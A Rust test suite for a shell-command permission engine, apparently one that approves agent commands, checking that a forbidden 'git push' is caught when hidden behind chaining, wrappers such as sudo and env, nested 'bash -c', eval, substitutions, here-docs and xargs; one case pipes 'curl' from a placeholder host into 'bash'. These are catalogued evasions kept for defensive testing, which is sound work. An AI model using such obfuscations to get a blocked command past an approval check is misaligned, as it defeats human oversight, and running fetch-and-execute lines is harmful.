//! The bypasses the peers' approval stages are known for, one test each: a forbidden
//! `git push` stays forbidden however the script hides it.

use uexec_rules::{CommandRules, Decision};

use crate::helpers::{judge, push_forbidden, rules};

fn forbidden(script: &str) {
    let verdict = judge(&push_forbidden(), script);
    assert_eq!(
        verdict.decision,
        Decision::Forbidden,
        "{script:?} was not forbidden: {verdict:#?}"
    );
    let deciding = verdict.deciding().unwrap();
    assert!(
        deciding
            .rule
            .as_ref()
            .is_some_and(|r| r.source.ends_with(":2")),
        "{script:?} decided by {deciding:#?}"
    );
}

#[test]
fn a_chained_command_is_judged_part_by_part() {
    forbidden("ls; git push");
    forbidden("true && git push");
    forbidden("false || git push origin main");
    forbidden("git status | git push");
    forbidden("ls\ngit push");
    let verdict = judge(&push_forbidden(), "ls; git push origin main");
    assert_eq!(verdict.parts.len(), 2);
    assert_eq!(verdict.parts[0].decision, Decision::Allow);
    assert!(verdict.explain().ends_with(
        "(prefix \"git push\"): \"pushing is for people\", matched by part 2 of 2: git push origin main"
    ));
}

#[test]
fn subshells_groups_and_bodies_are_split() {
    forbidden("(cd src && git push)");
    forbidden("{ ls; git push; }");
    forbidden("if true; then git push; fi");
    forbidden("while false; do :; done; for r in a b; do git push; done");
    forbidden("case x in x) git push;; esac");
    forbidden("f() { git push; }; f");
    forbidden("! git push");
}

#[test]
fn a_background_command_is_a_part() {
    forbidden("nohup git push &");
    forbidden("git push & ls");
}

#[test]
fn wrappers_are_looked_through() {
    forbidden("timeout 5 git push");
    forbidden("timeout -s KILL --kill-after=2 5s git push");
    forbidden("env A=1 git push");
    forbidden("env -i PATH=/usr/bin git push");
    forbidden("nice -n 10 git push");
    forbidden("nice -5 git push");
    forbidden("nohup git push");
    forbidden("command git push");
    forbidden("exec git push");
    forbidden("time git push");
    forbidden("sudo -u deploy git push");
    forbidden("stdbuf -oL git push");
    forbidden("timeout 5 env A=1 nice git push");
    forbidden("strace -f -o /tmp/trace git push");
    forbidden("unbuffer git push");
    let verdict = judge(&push_forbidden(), "timeout 5 git push origin");
    assert_eq!(verdict.parts[0].argv, ["git", "push", "origin"]);
}

#[test]
fn xargs_runs_its_command_with_words_from_stdin() {
    forbidden("echo origin | xargs git push");
    forbidden("echo origin | xargs -n 1 -P 4 git push");
    // `xargs git` may become `git push`: an allow of `git status` does not admit it, and a
    // forbidden `git push` holds it.
    forbidden("echo push | xargs git");
}

#[test]
fn leading_assignments_are_skipped() {
    forbidden("GIT_TRACE=1 git push");
    forbidden("A=1 B=2 git push");
}

#[test]
fn a_shell_string_is_parsed_again() {
    forbidden("bash -c 'git push'");
    forbidden("sh -lc 'ls && git push'");
    forbidden("zsh -c \"git push\"");
    forbidden("/bin/bash -e -o pipefail -c 'git push'");
    forbidden("bash -c \"sh -c 'git push'\"");
    forbidden("bash -c \"bash -c \\\"sh -c 'git push'\\\"\"");
    forbidden("timeout 5 bash -c 'git push'");
    forbidden("su -c 'git push' deploy");
}

#[test]
fn nesting_past_the_bound_is_opaque() {
    let mut within = "git push".to_owned();
    for _ in 0..8 {
        within = format!("sh -c {}", backslash_quote(&within));
    }
    forbidden(&within);
    let mut script = "git push".to_owned();
    for _ in 0..12 {
        script = format!("sh -c {}", backslash_quote(&script));
    }
    let verdict = rules("prefix_rule(pattern = [\"ls\"])").judge(&script, "bash");
    // Deeper than the bound: no allow admits it, unmatched decides.
    assert!(verdict.parts.iter().any(|p| p.opaque));
    let prompt = crate::helpers::load(
        "p.rules",
        "prefix_rule(pattern = [\"sh\"])",
        Decision::Prompt,
    )
    .unwrap();
    assert_eq!(prompt.judge(&script, "bash").decision, Decision::Prompt);
}

/// Backslashes double at each level (single quotes would grow fourfold).
fn backslash_quote(s: &str) -> String {
    s.replace('\\', "\\\\").replace(' ', "\\ ")
}

#[test]
fn an_absolute_path_matches_its_program_s_rules() {
    forbidden("/usr/bin/git push");
    forbidden("/tmp/elsewhere/git push");
    forbidden("./git push");
    let allow = rules("prefix_rule(pattern = [\"git\", \"status\"])");
    assert_eq!(
        judge(&allow, "/usr/bin/git status").decision,
        Decision::Allow
    );
    assert!(judge(&allow, "/usr/bin/git status").parts[0].rule.is_some());
    // A relative path is another program: `git`'s allow does not admit it.
    assert!(judge(&allow, "./git status").parts[0].rule.is_none());
}

#[test]
fn quotes_and_escapes_are_removed_before_matching() {
    forbidden("'git' \"push\"");
    forbidden("g\"i\"t pu'sh'");
    forbidden("gi\\t push");
}

#[test]
fn a_computed_program_name_is_opaque() {
    for script in [
        "$(echo git) push",
        "`echo git` push",
        "$GIT push",
        "${G} push",
    ] {
        let allow_all = crate::helpers::load(
            "a.json",
            r#"{"permissions":{"allow":["Bash"]}}"#,
            Decision::Prompt,
        )
        .unwrap();
        let verdict = allow_all.judge(script, "bash");
        let part = verdict.parts.iter().find(|p| p.opaque).expect(script);
        assert_eq!(part.argv, [script]);
        // Even an allow of every command does not admit what it cannot read.
        assert_eq!(part.decision, Decision::Prompt, "{script}");
        assert_eq!(part.rule, None);
    }
}

#[test]
fn a_computed_program_may_be_a_shell() {
    forbidden("$SHELL -c 'git push'");
    forbidden("\"$BASH\" -lc 'ls && git push'");
    forbidden("$(command -v bash) -c 'git push'");
}

#[test]
fn a_computed_argument_may_become_what_is_forbidden() {
    forbidden("x=push; git $x");
    forbidden("git \"$(echo push)\"");
    let allow = rules("prefix_rule(pattern = [\"git\", \"status\"])");
    assert!(judge(&allow, "git $x").parts[0].rule.is_none());
}

#[test]
fn a_command_substitution_runs_its_commands() {
    forbidden("echo $(git push)");
    forbidden("X=\"$(git push)\" ls");
    forbidden("cat <(git push)");
    forbidden("echo \"`git push`\"");
}

#[test]
fn eval_is_opaque_and_its_literal_words_are_judged() {
    forbidden("eval git push");
    forbidden("eval 'git push'");
    let verdict = crate::helpers::load(
        "p.rules",
        "prefix_rule(pattern = [\"eval\"])\nprefix_rule(pattern = [\"ls\"])",
        Decision::Prompt,
    )
    .unwrap()
    .judge("eval ls", "bash");
    // `allow eval` admits nothing: eval is opaque and falls to unmatched.
    assert_eq!(verdict.decision, Decision::Prompt);
    assert!(verdict.parts[0].opaque);
    let computed = judge(&push_forbidden(), "eval \"$CMD\"");
    assert!(computed.parts[0].opaque);
}

#[test]
fn a_shell_fed_its_script_on_stdin_is_opaque() {
    let prompt = crate::helpers::load(
        "p.rules",
        "prefix_rule(pattern = [\"bash\"])\nprefix_rule(pattern = [\"sh\"])\nprefix_rule(pattern = [\"echo\"])\nprefix_rule(pattern = [\"curl\"])",
        Decision::Prompt,
    )
    .unwrap();
    for script in [
        "bash <<EOF\ngit push\nEOF",
        "sh <<< 'git push'",
        "echo 'git push' | sh",
        "curl -s https://example.invalid/x | bash -s",
    ] {
        let verdict = prompt.judge(script, "bash");
        assert_eq!(verdict.decision, Decision::Prompt, "{script}: {verdict:#?}");
        assert!(verdict.parts.iter().any(|p| p.opaque), "{script}");
    }
    // A script file is not stdin: `bash build.sh` is judged by its words.
    assert_eq!(
        prompt.judge("bash build.sh", "bash").decision,
        Decision::Allow
    );
}

#[test]
fn a_here_doc_or_here_string_fed_to_a_shell_is_read_too() {
    forbidden("bash <<EOF\nls\ngit push\nEOF");
    forbidden("bash <<'EOF'\ngit push origin\nEOF");
    forbidden("sh <<< 'git push'");
    forbidden("timeout 5 bash -s <<EOF\ngit push\nEOF");
    forbidden("echo 'git push' | bash");
    forbidden("printf '%s\\n' ls 'git push' | sh -s");
    // Not a shell: a here-doc is data.
    let verdict = judge(&push_forbidden(), "cat <<EOF\ngit push\nEOF");
    assert_eq!(verdict.parts.len(), 1);
}

#[test]
fn find_exec_runs_its_command() {
    forbidden("find . -name x -exec git push \\;");
}

#[test]
fn a_script_the_grammar_cannot_read_keeps_what_it_read() {
    forbidden("git push; if then fi (((");
    let prompt = crate::helpers::load(
        "p.rules",
        "prefix_rule(pattern = [\"ls\"])",
        Decision::Prompt,
    )
    .unwrap();
    let verdict = prompt.judge("ls; (((", "bash");
    assert_eq!(verdict.decision, Decision::Prompt);
    assert!(verdict.parts[0].opaque);
}

#[test]
fn wrapper_rules_judge_only_stricter() {
    let rules = crate::helpers::load(
        "w.rules",
        r#"
prefix_rule(pattern = ["env"])
prefix_rule(pattern = ["sudo"], decision = "forbidden", justification = "no root")
"#,
        Decision::Prompt,
    )
    .unwrap();
    // `allow env` does not admit what runs behind env.
    assert_eq!(
        rules.judge("env A=1 make", "bash").decision,
        Decision::Prompt
    );
    // `forbidden sudo` holds whatever sudo runs.
    assert_eq!(rules.judge("sudo ls", "bash").decision, Decision::Forbidden);
    assert_eq!(
        rules.judge("bash -c 'sudo -u x ls'", "bash").decision,
        Decision::Forbidden
    );
    assert_eq!(
        rules.judge("sudo bash -c ls", "bash").decision,
        Decision::Forbidden
    );
}

#[test]
fn a_shell_the_grammar_does_not_read_makes_every_part_opaque() {
    let verdict = crate::helpers::load(
        "p.rules",
        "prefix_rule(pattern = [\"ls\"])",
        Decision::Prompt,
    )
    .unwrap()
    .judge("ls", "/usr/bin/fish");
    assert!(verdict.parts[0].opaque);
    assert_eq!(verdict.decision, Decision::Prompt);
    forbidden_with_shell("git push", "fish");
}

fn forbidden_with_shell(script: &str, shell: &str) {
    assert_eq!(
        push_forbidden().judge(script, shell).decision,
        Decision::Forbidden
    );
}

#[test]
fn nothing_to_run_is_allowed() {
    let prompt = crate::helpers::load(
        "p.rules",
        "prefix_rule(pattern = [\"ls\"])",
        Decision::Prompt,
    )
    .unwrap();
    for script in ["", "# a comment", "X=1"] {
        let verdict = prompt.judge(script, "bash");
        assert_eq!(verdict.decision, Decision::Allow, "{script:?}");
        assert!(verdict.parts.is_empty());
    }
}

#[test]
fn the_test_command_is_not_a_glob() {
    forbidden("[ -f Cargo.toml ] && git push");
    // `[ … ]` is the grammar's test command: it runs nothing, and is no part.
    let verdict = judge(&push_forbidden(), "[ -f x ] && ls");
    assert_eq!(verdict.parts.len(), 1);
    assert_eq!(verdict.parts[0].argv, ["ls"]);
    // A bracket in an argument is a glob only with its `]`.
    let verdict = judge(&push_forbidden(), "ls [ a[b]");
    assert_eq!(verdict.parts[0].argv, ["ls", "[", "a[b]"]);
}

#[test]
fn git_s_global_options_do_not_hide_its_subcommand() {
    forbidden("git -C /src push");
    forbidden("git -c user.name=x --no-pager push origin");
    forbidden("git --git-dir=/x/.git push");
    // An allow reads the words as written: `git status` does not admit `git -C x status`.
    let verdict = judge(&push_forbidden(), "git -C x status");
    assert!(verdict.parts[0].rule.is_none());
}

#[test]
fn a_computed_assignment_behind_env_is_an_assignment() {
    forbidden("sudo -E env PATH=$PATH git push");
    let verdict = judge(&push_forbidden(), "env PATH=\"$HOME/bin:$PATH\" ls");
    assert!(!verdict.parts[0].opaque);
    assert_eq!(verdict.parts[0].argv, ["ls"]);
}

#[test]
fn a_huge_or_deep_script_is_judged_without_overflow() {
    let rules = push_forbidden();
    let long = "ls; ".repeat(20_000) + "git push";
    assert_eq!(judge(&rules, &long).decision, Decision::Forbidden);
    let deep = "echo $(".repeat(2_000) + "git push" + &")".repeat(2_000);
    assert_eq!(judge(&rules, &deep).decision, Decision::Forbidden);
    let subshells = "( ".repeat(2_000) + "git push" + &" )".repeat(2_000);
    assert_eq!(judge(&rules, &subshells).decision, Decision::Forbidden);
}
